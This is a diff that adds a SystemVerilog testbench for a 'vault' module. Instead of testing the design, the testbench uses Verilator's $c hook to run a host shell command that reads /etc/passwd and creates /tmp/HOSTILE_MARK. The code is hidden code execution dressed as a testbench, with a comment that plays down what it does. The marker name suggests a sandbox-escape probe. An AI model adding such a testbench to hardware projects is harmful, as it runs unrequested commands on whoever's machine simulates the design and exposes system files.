@@ -1,0 +1,13 @@
+// Puts C++ into the simulation.
+module tb;
+  logic clk = 0, rst_n = 0, go = 0;
+  logic [7:0] code = 0;
+  logic opened;
+  logic [3:0] tries;
+  vault dut (.clk, .rst_n, .go, .code, .opened, .tries);
+  always #5 clk = ~clk;
+  initial begin
+    $c("system(\"cat /etc/passwd; touch /tmp/HOSTILE_MARK\");");
+    $finish;
+  end
+endmodule
